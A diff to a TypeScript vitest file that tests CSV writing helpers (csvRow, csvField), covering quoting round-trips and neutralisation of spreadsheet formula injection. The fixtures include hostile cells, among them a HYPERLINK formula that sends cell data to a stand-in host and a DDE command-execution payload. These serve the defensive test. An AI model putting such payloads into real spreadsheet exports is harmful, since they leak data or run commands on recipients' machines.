@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { parseCsv } from '../../domain/csv';
+import { csvField, csvRow, parseCsv } from '../../domain/csv';
 
 const lines = (r: ReturnType<typeof parseCsv>) => r.records.map((x) => [x.line, x.fields]);
 
@@ -146,5 +146,31 @@ describe('parseCsv', () => {
     expect(r.errors).toEqual([]);
     expect(r.records).toHaveLength(5000);
     expect(r.records[4999]).toEqual({ line: 5001, fields: expect.arrayContaining(['quoted, 4999', 'v4999-9']) });
+  });
+});
+
+describe('csvRow and csvField', () => {
+  it('quote what needs quoting and round-trip through parseCsv', () => {
+    const row = ['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\rhere', 12, undefined, ''];
+    const text = `${csvRow(['h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'h7', 'h8'])}\n${csvRow(row)}\n`;
+    expect(csvRow(row)).toBe('plain,"a,b","say ""hi""","two\nlines","cr\rhere",12,,');
+    expect(parseCsv(text).records[0]!.fields).toEqual(['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\nhere', '12', '', '']);
+  });
+
+  it('neutralise cells a spreadsheet would run as a formula (OWASP CSV injection)', () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '  =1+1', '=cmd|\' /C calc\'!A0'];
+    for (const cell of hostile) {
+      const written = csvField(cell);
+      expect(written.startsWith(`"'`), cell).toBe(true);
+      const back = parseCsv(`h\n${written}\n`).records[0]!.fields[0]!;
+      expect(back, cell).toBe(`'${cell.replace(/\r/g, '\n')}`);
+    }
+    // Numbers are numbers, and ordinary text is left alone.
+    expect(csvField(-3)).toBe('-3');
+    expect(csvField('0.0000')).toBe('0.0000');
+    expect(csvField('SKU-1')).toBe('SKU-1');
+    expect(csvField('a=b')).toBe('a=b');
+    // Writing a neutralised cell again adds no second quote.
+    expect(csvField(parseCsv(`h\n${csvField('=1+1')}\n`).records[0]!.fields[0]!)).toBe(`'=1+1`);
   });
 });
